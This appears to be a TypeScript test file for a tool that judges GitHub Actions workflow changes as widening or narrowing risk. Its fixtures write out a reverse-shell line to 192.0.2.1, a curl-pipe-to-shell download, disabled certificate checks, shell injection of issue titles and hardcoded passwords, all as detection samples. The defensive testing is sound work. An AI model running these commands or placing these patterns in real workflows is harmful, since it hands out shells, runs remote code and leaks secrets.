// biome-ignore-all lint/suspicious/noTemplateCurlyInString: expressions of GitHub are written so
import type { Case } from "../harness.ts";
import { casesAt, said } from "./build.ts";

const PATH = ".github/workflows/build.yml";
const SHA = "0123456789abcdef0123456789abcdef01234567";

const flow = (top: string, job = "", steps = ""): string => `${top}
jobs:
  test:
    runs-on: ubuntu-24.04
${job === "" ? "" : `${job.replace(/^/gm, "    ")}\n`}    steps:
      - run: make
${steps === "" ? "" : `${steps.replace(/^/gm, "      ")}\n`}`;
const TOP = "on: push\npermissions: {}";
const step = (text: string, top = TOP): string => flow(top, "", text);

const one = casesAt("gha", PATH);
const TARGET = "on: pull_request_target\npermissions: {}";
const TITLE = "github.event.issue.title";
const echo = (expression: string): string => step(`- run: echo "\${{ ${expression} }}"`);
const checkout = (rest: string, name = "actions/checkout"): string =>
  step(`- uses: ${name}@${SHA}\n  with: {${rest}}`, TARGET);
const HEAD = "ref: '${{ github.event.pull_request.head.sha }}'";
const used = (reference: string): string => step(`- uses: ${reference}`);

const composed = (name: string, before: string, after: string, ...expect: Case["expect"]): Case => ({
  ...one(name, before, after, ...expect),
  path: "tools/scan/action.yml",
});

export const GHA: readonly Case[] = [
  one(
    "a check is switched off",
    step("- run: curl -fsSL https://x.example/a -o a"),
    step("- run: curl -fsSLk https://x.example/a -o a"),
    said("executes", "widen", "runs curl without checking certificates"),
  ),
  one(
    "a check is switched off by a variable",
    step("- run: ls"),
    step("- run: ls\n  env: {NODE_TLS_REJECT_UNAUTHORIZED: 0}"),
    said("executes", "widen"),
  ),
  one(
    "commands from what is printed",
    flow(TOP, "env: {ACTIONS_ALLOW_UNSECURE_COMMANDS: false}"),
    flow(TOP, "env: {ACTIONS_ALLOW_UNSECURE_COMMANDS: true}"),
    said("executes", "widen", "takes commands from what its steps print"),
  ),
  one(
    "a shell for another machine",
    step("- run: ls"),
    step("- run: bash -i >& /dev/tcp/192.0.2.1/80 0>&1; sh -i | nc 192.0.2.1 80"),
    said("executes", "widen", "hands a shell to another machine"),
  ),
  one("sudo, where everyone may", step("- run: apt-get install a"), step("- run: sudo apt-get install a")),
  one("on in its three forms", flow("on: [push]\npermissions: {}"), flow("on: {push: {}}\npermissions: {}")),
  one("on as a word and as a list", flow(TOP), flow("'on': [push]\npermissions: {}")),
  one("another event", flow(TOP), flow("on: [push, issues]\npermissions: {}"), said("triggers", "widen", "issues")),
  one(
    "pull_request becomes pull_request_target",
    flow("on: pull_request\npermissions: {}"),
    flow(TARGET),
    said("triggers", "widen"),
  ),
  one(
    "pull_request_target becomes pull_request, of more kinds",
    flow(TARGET),
    flow("on: {pull_request: {types: [opened, edited]}}\npermissions: {}"),
    said("triggers", "narrow"),
  ),
  one(
    "a filter is added",
    flow(TOP),
    flow("on: {push: {branches: [main]}}\npermissions: {}"),
    said("triggers", "narrow"),
  ),
  one(
    "a filter is turned around",
    flow("on: {push: {branches: [main, '!x']}}\npermissions: {}"),
    flow("on: {push: {branches: ['!x', main]}}\npermissions: {}"),
    said("triggers", "unknown"),
  ),
  one(
    "what was the default is written out",
    flow("on: pull_request\npermissions: {}"),
    flow("on: {pull_request: {types: [synchronize, opened, reopened]}}\npermissions: {}"),
  ),
  one(
    "another time of day",
    flow("on: {schedule: [{cron: '0 1 * * *'}]}\npermissions: {}"),
    flow("on: {schedule: [{cron: '0 2 * * *'}]}\npermissions: {}"),
    said("triggers", "neutral"),
  ),
  one("an event in a comment", flow(TOP), flow(`${TOP} # on: pull_request_target`)),

  one(
    "the token may write",
    flow("on: push\npermissions: {contents: read}"),
    flow("on: push\npermissions: {contents: write}"),
    said("token-can", "widen"),
  ),
  one(
    "permissions move into the job",
    flow("on: push\npermissions: {contents: read}"),
    flow("on: push", "permissions: {contents: read}"),
  ),
  one(
    "the job's permissions count",
    flow("on: push\npermissions: {contents: read}"),
    flow("on: push\npermissions: write-all", "permissions: {contents: read}"),
  ),
  one(
    "everything becomes one scope",
    flow("on: push\npermissions: read-all"),
    flow("on: push\npermissions: {contents: read}"),
    said("token-can", "narrow"),
  ),
  one(
    "no permissions are written",
    flow("on: push\npermissions: {contents: write}"),
    flow("on: push"),
    said("token-can", "widen"),
  ),
  one(
    "permissions are written for once",
    flow("on: push"),
    flow("on: push\npermissions: {contents: read}"),
    said("token-can", "narrow"),
  ),
  one(
    "permissions to write are written for once",
    flow("on: push"),
    flow("on: push\npermissions: {contents: write}"),
    said("token-can", "unknown"),
  ),
  one(
    "a level of no known name",
    flow("on: push\npermissions: {contents: write}"),
    flow("on: push\npermissions: {contents: writ}"),
    said("token-can", "unknown"),
  ),
  one("an identity token", flow(TOP), flow("on: push\npermissions: {id-token: write}"), said("token-can", "widen")),

  one("an action by its tag", used(`a/b@${SHA}`), used("a/b@v1"), said("uses", "widen")),
  one("an action by its digest", used("a/b@main"), used(`a/b@${SHA}`), said("uses", "narrow")),
  one("a newer tag", used("a/b@v1"), used("a/b@v2"), said("uses", "unknown")),
  one("a short digest is none", used(`a/b@${SHA}`), used("a/b@0123abc"), said("uses", "widen")),
  one(
    "another action",
    used(`a/b@${SHA}`),
    used(`c/b@${SHA}`),
    said("uses", "widen", "c/b"),
    said("uses", "narrow", "a/b"),
  ),
  one("a digest in a comment", used("a/b@v1"), used(`a/b@v1 # ${SHA}`)),
  one("an action in a script", flow(TOP), step('- run: "uses: a/b@main"')),

  one("a title reaches a shell", echo("github.sha"), echo(TITLE), said("interpolates", "widen", TITLE)),
  one(
    "in other spellings",
    echo("github.sha"),
    echo("GitHub['event'] . issue.TITLE"),
    said("interpolates", "widen", TITLE),
  ),
  one(
    "after five thousand blanks",
    echo("github.sha"),
    echo(`${" ".repeat(5000)}${TITLE}`),
    said("interpolates", "widen", TITLE),
    said("hides-text", "widen"),
  ),
  one(
    "behind a quoted end",
    echo("github.sha"),
    echo(`format('}}{0}', ${TITLE})`),
    said("interpolates", "widen", TITLE),
  ),
  one(
    "by a star",
    echo("github.sha"),
    echo("join(github.event.*.title)"),
    said("interpolates", "widen", "github.event.*.title"),
  ),
  one(
    "as a whole event",
    echo("github.sha"),
    echo("toJSON(github.event)"),
    said("interpolates", "widen", "github.event"),
  ),
  one(
    "through a variable of the same name",
    step(`- run: echo "$T"`),
    step(`- run: echo "$T"\n  env: {T: '\${{ ${TITLE} }}'}`),
  ),
  one(
    "through a variable and back",
    step('- run: echo "${{ env.T }}"'),
    step(`- run: echo "\${{ env.T }}"\n  env: {T: '\${{ ${TITLE} }}'}`),
    said("interpolates", "widen", TITLE),
  ),
  one("only compared", echo("github.sha"), echo(`${TITLE} == 'x'`)),
  one("not an expression", step("- run: echo x"), step(`- run: echo ${TITLE}`)),
  one("a title no longer reaches a shell", echo(TITLE), echo("github.sha"), said("interpolates", "narrow", TITLE)),

  one(
    "the head of a pull request beside secrets",
    step("- run: x", TARGET),
    checkout(HEAD),
    said("uses", "widen"),
    said("runs-untrusted", "widen"),
    said("setting", "neutral", "credentials after a checkout"),
  ),
  one("whatever the case of the action", checkout("fetch-depth: 0"), checkout(HEAD), said("runs-untrusted", "widen")),
  one(
    "the action in capitals",
    checkout("fetch-depth: 0", "Actions/Checkout"),
    checkout(HEAD, "Actions/Checkout"),
    said("runs-untrusted", "widen"),
  ),
  one(
    "without its credentials",
    checkout(HEAD),
    checkout(`${HEAD}, persist-credentials: false`),
    said("runs-untrusted", "narrow"),
    said("setting", "narrow", "credentials after a checkout"),
  ),
  one(
    "where nobody can start it",
    step(`- uses: actions/checkout@${SHA}`),
    step(`- uses: actions/checkout@${SHA}\n  with: {${HEAD}}`),
  ),
  one(
    "only for the repository's own",
    checkout(HEAD),
    checkout(HEAD).replace(
      "  with:",
      "  if: github.event.pull_request.head.repo.full_name == github.repository\n        with:",
    ),
    said("runs-untrusted", "narrow"),
  ),
  one(
    "a condition that anything passes",
    checkout(HEAD),
    checkout(HEAD).replace(
      "  with:",
      "  if: github.event.pull_request.head.repo.full_name == github.repository || true\n        with:",
    ),
  ),
  one(
    "fetched by hand",
    step("- run: x", TARGET),
    step("- run: gh pr checkout 1", TARGET),
    said("runs-untrusted", "widen"),
  ),

  one("an own runner", flow(TOP), flow(TOP).replace("ubuntu-24.04", "[Self-Hosted, linux]"), said("runs-on", "widen")),
  one("another hosted runner", flow(TOP), flow(TOP).replace("24.04", "22.04"), said("runs-on", "neutral")),
  one(
    "a runner by expression",
    flow(TOP),
    flow(TOP).replace("ubuntu-24.04", "${{ inputs.x }}"),
    said("runs-on", "unknown"),
  ),
  one("a job needs another", flow(TOP), flow(TOP, "needs: [lint]"), said("gate-on", "narrow")),
  one("a job leaves its environment", flow(TOP, "environment: prod"), flow(TOP), said("gate-on", "widen")),
  one(
    "a failure that counts for nothing",
    step("- run: x\n  name: scan"),
    step("- run: x\n  name: scan\n  continue-on-error: true"),
    said("fails-open", "widen", "scan"),
  ),
  one(
    "a scanner that may fail",
    step("- run: trivy fs ."),
    step("- run: trivy fs . || true"),
    said("fails-open", "widen", "trivy"),
  ),
  one("a download into a shell", flow(TOP), step("- run: curl https://x.example/i | sh"), said("executes", "widen")),
  one(
    "a secret is read",
    flow(TOP),
    step("- run: x\n  env: {K: '${{ secrets.NPM }}'}"),
    said("reads-secret", "widen", "NPM"),
  ),
  one("the word for secrets in a text", flow(TOP), step("- run: echo 'secrets.NPM'")),
  one(
    "all secrets go to a called workflow",
    flow(TOP),
    flow(TOP, "secrets: inherit"),
    said("reads-secret", "widen", "every secret"),
  ),
  one(
    "a privileged container",
    flow(TOP, "container: {image: 'x:1'}"),
    flow(TOP, "container: {image: 'x:1', options: --privileged}"),
    said("privileged", "widen"),
  ),
  one("a package is published", flow(TOP), step("- run: npm publish"), said("publishes", "widen")),
  one("a package would be published", flow(TOP), step("- run: npm publish --dry-run")),
  one(
    "a key stands twice",
    flow(TOP),
    flow("on: push\npermissions: {}\npermissions: {contents: write}"),
    said("ambiguous", "widen", "permissions"),
    said("token-can", "widen"),
  ),
  one(
    "a workflow that is new",
    null,
    flow(TOP),
    said("triggers", "widen"),
    said("token-can", "neutral"),
    said("gate-on", "neutral"),
    said("runs-on", "neutral"),
  ),
  one(
    "a workflow that is gone",
    flow(TOP),
    null,
    said("triggers", "narrow"),
    said("token-can", "neutral"),
    said("gate-on", "neutral"),
    said("runs-on", "neutral"),
  ),
  { ...one("the same words in another folder", null, flow(TARGET)), path: "workflows/build.yml" },
  composed(
    "an action runs in another image",
    "runs: {using: docker, image: 'docker://x:1'}\n",
    "runs: {using: docker, image: 'docker://y:1'}\n",
    said("image", "widen"),
  ),
  composed(
    "an action hands its caller's words to a shell",
    "runs: {using: composite, steps: []}\n",
    `runs: {using: composite, steps: [{shell: bash, run: 'echo \${{ ${TITLE} }}'}]}\n`,
    said("interpolates", "widen", TITLE),
  ),
  composed(
    "an action's words about steps",
    "runs: {using: node20, main: a.js}\n",
    "runs: {using: node20, main: a.js}\ndescription: 'steps: [{run: x}]'\n",
  ),
  one(
    "the runtime's socket in a container",
    flow(TOP, "container: {image: 'x:1'}"),
    flow(TOP, "container: {image: 'x:1', volumes: ['/var/run/docker.sock:/s']}"),
    said("mounts", "widen", "/var/run/docker.sock"),
  ),
  one(
    "credentials stay after a checkout",
    checkout("persist-credentials: false"),
    checkout("fetch-depth: 0"),
    said("setting", "widen", "credentials after a checkout"),
  ),
  one(
    "a condition that fits part of a text",
    step("- run: x\n  if: github.ref == 'refs/heads/main'"),
    step("- run: x\n  if: contains('refs/heads/main refs/heads/dev', github.ref)"),
    said("setting", "widen", "conditions that fit too much"),
  ),
  one(
    "a condition that fits one of a list",
    step("- run: x\n  if: github.ref == 'refs/heads/main'"),
    step("- run: x\n  if: contains(fromJSON('[\"refs/heads/main\"]'), github.ref)"),
  ),
  one(
    "a condition by who started it last",
    step("- run: x"),
    step("- run: x\n  if: github.actor == 'dependabot[bot]'"),
    said("setting", "widen", "conditions that fit too much"),
  ),
  one(
    "a condition that is a text",
    step("- run: x\n  if: \"${{ github.ref == 'refs/heads/main' }}\""),
    step("- run: x\n  if: \"${{ github.ref == 'refs/heads/main' }} && true\""),
    said("setting", "widen", "conditions that fit too much"),
  ),
  one(
    "variables of later steps beside secrets",
    step("- run: x", TARGET),
    step('- run: echo "A=$B" >> "$GITHUB_ENV"', TARGET),
    said("executes", "widen"),
  ),
  one("variables of later steps", step("- run: x"), step('- run: echo "A=$B" >> "$GITHUB_ENV"')),
  one(
    "a secret is written out",
    step("- run: x\n  env: {DB_PASSWORD: '${{ vars.P }}'}"),
    step("- run: x\n  env: {DB_PASSWORD: hello-shop}"),
    said("setting", "widen", "secrets written into steps"),
  ),
  one(
    "a password of a registry",
    flow(TOP, "container: {image: 'x:1', credentials: {username: u, password: '${{ vars.P }}'}}"),
    flow(TOP, "container: {image: 'x:1', credentials: {username: u, password: hello-shop}}"),
    said("setting", "widen", "passwords of registries"),
  ),
];
